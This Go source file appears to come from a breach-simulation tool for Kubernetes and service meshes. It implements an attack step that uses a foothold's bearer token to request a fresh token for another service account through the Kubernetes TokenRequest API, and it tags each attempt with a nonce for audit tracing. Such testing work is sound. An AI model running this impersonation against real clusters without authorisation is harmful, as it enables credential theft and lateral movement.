package attacks

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"

	"github.com/meshbreach/meshbreach/attacker"
)

// account is the namespace/account of a cast member on the platform.
func account(t attacker.Target, name string) (string, error) {
	if name == "" {
		return "", nil
	}
	if t.Authority.Platform == "" {
		return "", errors.New("no platform has an API that workloads can reach")
	}
	a, ok := t.Accounts[name]
	if !ok {
		return "", fmt.Errorf("the account of %q is unknown", name)
	}
	return a, nil
}

// minted asks the Kubernetes API for a token of another's account. The nonce
// travels as the user agent, which the API writes down.
func (a asking) minted(ctx context.Context, f attacker.Foothold, nonce string) (string, attacker.Observation) {
	namespace, name, _ := strings.Cut(a.mint, "/")
	spec := "{}"
	if audience := a.protocol.TokenAudience(); audience != "" {
		spec = `{"audiences":["` + audience + `"]}`
	}
	body, o := f.Fetch(ctx, attacker.Request{
		Nonce: nonce, Address: a.request.Authority.Platform, Protocol: attacker.ProtocolHTTP2, Method: "POST",
		Path: "/api/v1/namespaces/" + namespace + "/serviceaccounts/" + name + "/token",
		Headers: map[string][]string{
			"authorization": {"Bearer " + a.request.Token}, "content-type": {"application/json"}, "user-agent": {nonce},
		},
		Body: `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":` + spec + `}`,
		TLS:  &attacker.TLS{ServerName: "kubernetes.default.svc", ALPN: []string{"h2"}},
	})
	if o.Refusal != nil {
		return "", o
	}
	var answer struct{ Status struct{ Token string } }
	if err := json.Unmarshal(body, &answer); err != nil || answer.Status.Token == "" {
		o.Reply, o.Refusal = nil, &attacker.Refusal{Layer: attacker.LayerApp, Text: "the answer holds no token"}
	}
	return answer.Status.Token, o
}
